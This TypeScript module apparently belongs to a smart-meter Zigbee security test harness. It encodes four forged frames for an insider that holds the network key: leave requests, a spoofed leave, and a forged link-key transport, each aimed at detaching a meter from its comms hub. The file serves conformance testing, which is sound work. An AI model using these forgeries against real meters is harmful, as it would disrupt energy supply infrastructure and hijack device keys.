/**
 * The insider: an attacker that joined the HAN (a compromised IHD, or any device the supplier
 * put in the CHF Device Log) and so holds the network key every member shares. With it alone
 * it forges NWK-secured frames meant to cut a meter off its DCC; each must be refused:
 *
 * - `nwk-leave`: an NWK Leave request to the meter from the insider itself, neither the
 *   meter's parent nor the Trust Centre (05-3474 §3.6.1.10.3);
 * - `mgmt-leave`: a ZDO Mgmt_Leave_req for the meter "from the CH" with NWK security only, no
 *   APS link-key security (a restricted ZDO command, R22 §2.4.3.3.5);
 * - `spoofed-leave`: an NWK Leave (indication) at the CH in the meter's name: NWK source and
 *   source IEEE are the meter's, the MAC source and the security source are the insider's;
 * - `transport-key`: a Transport Key for the meter's CH link key "from the CH", APS-secured
 *   with the network key (not the key-transport key of the TC link key, §4.4.1.1).
 *
 * The frames are built here from the network record the insider's node learnt on joining and
 * go straight to the radio; this module only encodes.
 */
import {
  type ApsPlainFrame,
  encodeApsFrame,
  encodeMacFrame,
  encodeZdo,
  fromHex,
  type NwkPlainFrame,
  secureApsFrame,
  secureNwkFrame,
  ZDO_ENDPOINT,
  ZDO_PROFILE_ID,
} from '@gbhan/zigbee';

export const INSIDER_ATTACKS = ['nwk-leave', 'mgmt-leave', 'spoofed-leave', 'transport-key'] as const;
export type InsiderAttack = (typeof INSIDER_ATTACKS)[number];

/** What the insider knows: its network record, itself, the victim and the CH. */
export interface InsiderContext {
  panId: number;
  networkKey: string;
  keySequenceNumber: number;
  self: { eui64: string; short: number };
  target: { eui64: string; short: number };
  ch: { eui64: string; short: number };
  /** Counters the insider keeps for its forgeries (MAC/NWK sequence, NWK/APS frame counters). */
  counters: {
    macSeq: number;
    nwkSeq: number;
    nwkFc: number;
    apsFc: number;
    apsCounter: number;
    zdoTsn: number;
  };
  /** 16 octets: the key the insider wants the meter to take. */
  forgedKey: Uint8Array;
}

const NWK_BROADCAST_RX_ON_WHEN_IDLE = 0xfffd;
const MAC_BROADCAST = 0xffff;
const MGMT_LEAVE_REQ_CLUSTER = 0x0034;

/** The PSDU of one forged frame. */
export function insiderPsdu(attack: InsiderAttack, x: InsiderContext): Uint8Array {
  switch (attack) {
    case 'nwk-leave':
      return frame(x, x.target.short, {
        ...header(x, x.target.short, x.self, x.target.eui64),
        radius: 1,
        frameType: 'command',
        security: false,
        command: { id: 'leave', request: true, rejoin: false, removeChildren: false },
      });
    case 'mgmt-leave': {
      x.counters.zdoTsn = (x.counters.zdoTsn + 1) & 0xff;
      const zdo = encodeZdo({
        command: 'mgmtLeaveReq',
        transactionSequenceNumber: x.counters.zdoTsn,
        deviceAddress: x.target.eui64,
        removeChildren: false,
        rejoin: false,
      });
      const aps = encodeApsFrame({
        frameType: 'data',
        deliveryMode: 'unicast',
        ackRequest: false,
        counter: nextApsCounter(x),
        destinationEndpoint: ZDO_ENDPOINT,
        clusterId: MGMT_LEAVE_REQ_CLUSTER,
        profileId: ZDO_PROFILE_ID,
        sourceEndpoint: ZDO_ENDPOINT,
        security: false,
        payload: zdo.payload,
      });
      // In the Trust Centre's name at NWK: only APS link-key security could prove it.
      return frame(x, x.target.short, {
        ...header(x, x.target.short, x.ch, x.target.eui64),
        frameType: 'data',
        security: false,
        payload: aps,
      });
    }
    case 'spoofed-leave':
      // The meter "announces" it leaves: its NWK addresses, but the insider's MAC and security source.
      return frame(
        x,
        MAC_BROADCAST,
        {
          ...header(x, NWK_BROADCAST_RX_ON_WHEN_IDLE, x.target, undefined),
          radius: 1,
          frameType: 'command',
          security: false,
          command: { id: 'leave', request: false, rejoin: false, removeChildren: false },
        },
        false,
      );
    case 'transport-key': {
      const aps: ApsPlainFrame = {
        frameType: 'command',
        deliveryMode: 'unicast',
        ackRequest: false,
        counter: nextApsCounter(x),
        security: false,
        command: {
          id: 'transportKey',
          keyType: 'applicationLink',
          key: x.forgedKey,
          partner: x.ch.eui64,
          initiator: false,
        },
      };
      const secured = secureApsFrame(aps, {
        key: fromHex(x.networkKey),
        keyId: 'network',
        keySequenceNumber: x.keySequenceNumber,
        frameCounter: x.counters.apsFc++,
        sourceEui64: x.ch.eui64,
      });
      return frame(x, x.target.short, {
        ...header(x, x.target.short, x.ch, x.target.eui64),
        frameType: 'data',
        security: false,
        payload: secured,
      });
    }
  }
}

function header(
  x: InsiderContext,
  destination: number,
  source: { eui64: string; short: number },
  destinationIeee: string | undefined,
) {
  x.counters.nwkSeq = (x.counters.nwkSeq + 1) & 0xff;
  return {
    protocolVersion: 2,
    discoverRoute: 0,
    endDeviceInitiator: false,
    destination,
    source: source.short,
    radius: 10,
    sequenceNumber: x.counters.nwkSeq,
    ...(destinationIeee !== undefined ? { destinationIeee } : {}),
    sourceIeee: source.eui64,
  };
}

function nextApsCounter(x: InsiderContext): number {
  x.counters.apsCounter = (x.counters.apsCounter + 1) & 0xff;
  return x.counters.apsCounter;
}

/** NWK-secured by the insider (its own EUI64 and counter: the network key is all it needs), in a MAC data frame. */
function frame(x: InsiderContext, macDestination: number, nwk: NwkPlainFrame, ackRequest = true): Uint8Array {
  const nwkBytes = secureNwkFrame(nwk, {
    key: fromHex(x.networkKey),
    frameCounter: x.counters.nwkFc++,
    sourceEui64: x.self.eui64,
    keySequenceNumber: x.keySequenceNumber,
  });
  x.counters.macSeq = (x.counters.macSeq + 1) & 0xff;
  return encodeMacFrame({
    frameType: 'data',
    sequenceNumber: x.counters.macSeq,
    framePending: false,
    ackRequest,
    panIdCompression: true,
    frameVersion: 0,
    destinationPan: x.panId,
    destination: macDestination,
    source: x.self.short,
    payload: nwkBytes,
  });
}
